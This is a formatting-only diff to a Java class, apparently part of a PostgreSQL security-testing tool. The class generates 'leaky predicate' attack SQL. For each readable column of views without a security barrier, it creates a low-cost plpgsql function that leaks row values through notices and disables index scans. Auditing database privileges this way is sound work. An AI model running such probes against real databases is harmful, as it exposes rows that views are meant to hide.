@@ -9,10 +9,11 @@ import java.util.List;
 record LeakyPredicates() implements Attack {
 
     private static final String PEEK = """
-            create function pg_temp.hedgerow_peek(anyelement) returns boolean volatile cost 0.0001 language plpgsql \
-            as 'begin raise notice ''%%'', $1; return true; end'; \
-            set local enable_indexscan = off; set local enable_bitmapscan = off; set local enable_indexonlyscan = off; \
-            select 1 from %s where pg_temp.hedgerow_peek(%s)""";
+        create function pg_temp.hedgerow_peek(anyelement) returns boolean volatile cost 0.0001 language plpgsql \
+        as 'begin raise notice ''%%'', $1; return true; end'; \
+        set local enable_indexscan = off; set local enable_bitmapscan = off; set local enable_indexonlyscan = off; \
+        select 1 from %s where pg_temp.hedgerow_peek(%s)\
+        """;
 
     @Override
     public List<Shot> shots(Field field, Role role) {
@@ -20,7 +21,10 @@ record LeakyPredicates() implements Attack {
                 .filter(view -> view.kind() == Relation.Kind.VIEW && !isBarrier(view))
                 .flatMap(view -> field.columns(role, view, Command.SELECT).stream()
                         .map(column -> Shot.read(
-                                "leaky predicate", view.quoted(), "SELECT", PEEK.formatted(view.quoted(), column.quoted()))))
+                                "leaky predicate",
+                                view.quoted(),
+                                "SELECT",
+                                PEEK.formatted(view.quoted(), column.quoted()))))
                 .toList();
     }
 
